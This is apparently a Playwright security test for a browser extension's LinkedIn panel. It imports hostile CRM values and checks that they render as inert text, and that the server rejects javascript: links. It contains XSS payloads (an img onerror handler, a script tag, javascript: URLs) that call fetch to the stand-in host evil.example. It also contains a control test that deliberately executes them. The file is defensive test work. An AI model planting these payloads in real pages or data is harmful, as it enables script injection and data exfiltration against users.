/**
 * Hostile CRM values, put in through the admin import (the real path into the server's data),
 * render in the LinkedIn panel as inert text: no element is created from them, no handler runs,
 * no request leaves, no `javascript:` link exists. The server's import also refuses a
 * `javascript:` URL where it stores links (the contact's LinkedIn URL).
 */
import type { Request } from '@playwright/test';
import { builtContentScripts, capturesAvailable, CAPTURES_DIR, expect, test, type Harness } from './fixtures.ts';
import { openAllSections, panel, panelText, waitForBrief, waitForPanelText } from './linkedin-panel.ts';

const ready = capturesAvailable() && builtContentScripts() > 0;

const URL_ = 'https://www.linkedin.com/in/nikospetrakis/';
const CAPTURE = '2024-08-20--profile--near-empty.html';
const DOMAIN = 'siac-research.se';
/** Each would set a main-world global and call out if it ran as markup. */
const hostile = (label: string) => `<img src=x onerror="window.__xss=(window.__xss||[]).concat('${label}');fetch('https://evil.example/${label}')">`;
const TITLE = hostile('title');
const ACCOUNT = `SIAC ${hostile('account')}`;
const DEAL = `<script>window.__xss=['deal'];fetch('https://evil.example/deal')</script>Pilot`;
const NEXT_STEP = "javascript:fetch('https://evil.example/next-step')";

interface ImportReport {
  summary: { created: number; updated: number; rejected: number };
  errors: { row: number; column: string; message: string }[];
}

const importRows = async (h: Harness, entity: string, rows: Record<string, string>[]): Promise<ImportReport> => {
  const response = await fetch(`${h.serverUrl}/v1/import/${entity}`, {
    method: 'POST',
    headers: { Authorization: `Bearer ${h.adminToken}`, 'Content-Type': 'application/json' },
    body: JSON.stringify({ rows }),
  });
  expect(response.status).toBe(200);
  return (await response.json()) as ImportReport;
};

test.describe('LinkedIn panel with hostile CRM values', () => {
  test.skip(!ready, `captures at ${CAPTURES_DIR} and a built content script are needed`);
  test.use({ connected: true });
  // The import comes first: the panel then shows what it stored.
  test.describe.configure({ mode: 'serial' });

  test('imports the hostile values (the server stores text as text)', async ({ harness: h }) => {
    expect((await importRows(h, 'contacts', [{ name: 'Nikos Petrakis', linkedin_url: URL_, title: TITLE }])).summary.updated).toBe(1);
    expect((await importRows(h, 'accounts', [{ name: ACCOUNT, domains: DOMAIN }])).summary.updated).toBe(1);
    const deal = { external_id: 'e2e-xss-deal', account_domain: DOMAIN, name: DEAL, stage: 'proposal', amount: '1000', close_date: '2030-01-15', next_step: NEXT_STEP };
    expect((await importRows(h, 'deals', [deal])).summary.created).toBe(1);
  });

  test('refuses a javascript: URL in a link column at import', async ({ harness: h }) => {
    const report = await importRows(h, 'contacts', [{ name: 'Mallory Example', linkedin_url: 'javascript:alert(1)' }]);
    expect(report.summary.rejected).toBe(1);
    expect(JSON.stringify(report.errors)).toContain('linkedin_url');
  });

  test('renders them as inert text: no element, no script, no request, no javascript: link', async ({ harness: h }) => {
    await h.routeLinkedIn(URL_, CAPTURE);
    const requests: string[] = [];
    const onRequest = (request: Request) => requests.push(request.url());
    h.context.on('request', onRequest);
    const dialogs: string[] = [];
    const page = await h.context.newPage();
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    try {
      await page.goto(URL_);
      await waitForBrief(page);
      const brief = panel(page).locator('[data-panel="brief"]');
      // Wait for the server's brief (the hostile title), not a cached one.
      await brief.locator('header p').getByText(`${TITLE} at ${ACCOUNT}`, { exact: true }).waitFor({ timeout: 30_000 });
      // Every hostile value on screen: the sections (collapsed by default) opened, as a rep would.
      await openAllSections(page);
      await waitForPanelText(page, DEAL);
      const text = await panelText(page);
      expect(text).toContain(`Next: ${NEXT_STEP}`);
      expect(text).toContain(DEAL);

      // Read in the extension's world (the root is closed to the page).
      const inPanel = await panel(page).evaluate((root) => ({
        elements: [...root.querySelectorAll('img, script, iframe, object, embed')].map((e) => e.tagName),
        hrefs: [...root.querySelectorAll('a')].map((a) => a.getAttribute('href')),
        handlers: [...root.querySelectorAll('*')].flatMap((e) => e.getAttributeNames().filter((n) => n.startsWith('on'))),
      }));
      expect(inPanel.elements).toEqual([]);
      expect(inPanel.handlers).toEqual([]);
      // Links are http(s), or the two actions issue 11 adds in their one strict form: mailto: one plain
      // address (no `?`, so no added recipient, header or body), tel: digits with an optional `+`.
      const allowed = (href: string | null) =>
        /^https?:/i.test(href ?? '') || /^mailto:[^\s?#&/\\<>"':;,]+@[a-z0-9.-]+\.[a-z]{2,}$/i.test(href ?? '') || /^tel:\+?\d{6,15}$/.test(href ?? '');
      expect(inPanel.hrefs.filter((href) => !allowed(href))).toEqual([]);
      expect(inPanel.hrefs.some((href) => /^(javascript|data|vbscript):/i.test((href ?? '').trim()))).toBe(false);

      // Give a handler that would run on the image error a moment's chance, then check nothing ran.
      await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve, 500))));
      expect(await page.evaluate(() => (window as unknown as { __xss?: string[] }).__xss ?? null)).toBeNull();
      expect(dialogs).toEqual([]);
      expect(requests.filter((url) => url.includes('evil.example') || /\/x(\?|$)/.test(url))).toEqual([]);
    } finally {
      h.context.off('request', onRequest);
      await page.close();
    }
  });

  test('control: the same checks catch the payload when it is parsed as markup on this page', async ({ harness: h }) => {
    const requests: string[] = [];
    const onRequest = (request: Request) => requests.push(request.url());
    h.context.on('request', onRequest);
    const page = await h.context.newPage();
    try {
      await page.goto(URL_);
      await page.evaluate((html) => {
        const div = document.createElement('div');
        // The control: markup parsed on purpose, to prove the checks above would see it run.
        // eslint-disable-next-line no-restricted-syntax
        div.innerHTML = html;
        document.body.append(div);
      }, TITLE);
      await page.waitForFunction(() => (window as unknown as { __xss?: string[] }).__xss?.includes('title'), undefined, { timeout: 10_000 });
      await expect.poll(() => requests.filter((url) => url.includes('evil.example')).length, { timeout: 10_000 }).toBe(1);
    } finally {
      h.context.off('request', onRequest);
      await page.close();
    }
  });
});
